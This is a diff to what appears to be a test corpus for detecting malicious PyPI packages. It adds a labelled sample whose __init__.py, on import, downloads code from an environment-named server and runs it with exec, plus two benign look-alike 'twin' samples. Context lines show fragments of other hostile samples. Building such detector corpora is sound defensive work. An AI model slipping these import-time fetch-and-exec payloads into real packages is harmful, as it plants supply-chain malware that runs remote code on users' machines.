@@ -140,6 +140,15 @@ threading.Thread(target=_job, args=('http://198.51.100.14/j',), daemon=True).sta
   }),
 ];
 
+// (a server only the environment names, at import)
+export const CONFIGURED: readonly PypiVariant[] = [
+  v('import-exec-from-env-configured-server', 'download-then-run', 'remote_code_exec_configured', {
+    'pkgx/__init__.py': py`import os, requests
+exec(requests.get(os.environ.get('PKGX_BOOT', 'x') + '/boot').text)
+`,
+  }),
+];
+
 // ---- credentials or files collected and sent -------------------------------------------------------------------
 
 export const COLLECT_SEND: readonly PypiVariant[] = [
@@ -786,6 +795,44 @@ keyboard.Listener(on_press=on_press).start()
 
 
 export const PAYLOAD_TWINS: readonly PypiVariant[] = [
+  v('twin-codegen-service-client-runtime', 'download-then-run', '', {
+    'pkgx/backend.py': py`import requests
+
+class CloudBackend:
+    """Compiles queries to Python on the code-generation service the user's DSN names."""
+
+    def __init__(self, dsn):
+        self.api_url = dsn
+
+    def _post(self, url, payload):
+        return requests.post(url, json=payload).json()
+
+    def document(self, query):
+        code = self._post('{}/graphql'.format(self.api_url), {'query': query})['data']['code']
+        return compile(code, '<document>', 'exec')
+`,
+    // (as graphql-core's backend: a module the user imports by name, which the package's __init__ does not import)
+  }),
+  v('twin-kernel-env-then-db-row', 'collect-and-send', '', {
+    'pkgx/sessions.py': py`import os, sqlite3
+
+class Sessions:
+    def __init__(self, manager):
+        self.manager = manager
+        self.cursor = sqlite3.connect(':memory:').cursor()
+
+    def kernel_env(self, path):
+        return {**os.environ, 'PKGX_SESSION': path}
+
+    async def start(self, sid, path):
+        kid = await self.manager.start_kernel(path=path, env=self.kernel_env(path))
+        await self.save(sid, path, kid)
+
+    async def save(self, sid, path, kid):
+        self.cursor.execute('INSERT INTO session VALUES (?,?,?)', (sid, path, kid))
+`,
+    'pkgx/__init__.py': 'from .sessions import Sessions  # noqa\n',
+  }),
   v('twin-socket-json-server', 'remote-control', '', {
     'pkgx/__init__.py': py`import json, socket, threading
 
@@ -866,5 +913,5 @@ for root, _, files in os.walk(CACHE):
   }),
 ];
 
-export const PKG22PY_VARIANTS: readonly PypiVariant[] = [...DOWNLOAD_RUN, ...COLLECT_SEND, ...PERSISTENCE, ...OBFUSCATED, ...MORE, ...PAYLOADS];
+export const PKG22PY_VARIANTS: readonly PypiVariant[] = [...DOWNLOAD_RUN, ...COLLECT_SEND, ...PERSISTENCE, ...OBFUSCATED, ...MORE, ...PAYLOADS, ...CONFIGURED];
 export const PKG22PY_TWINS: readonly PypiVariant[] = [...TWINS, ...MORE_TWINS, ...PAYLOAD_TWINS];
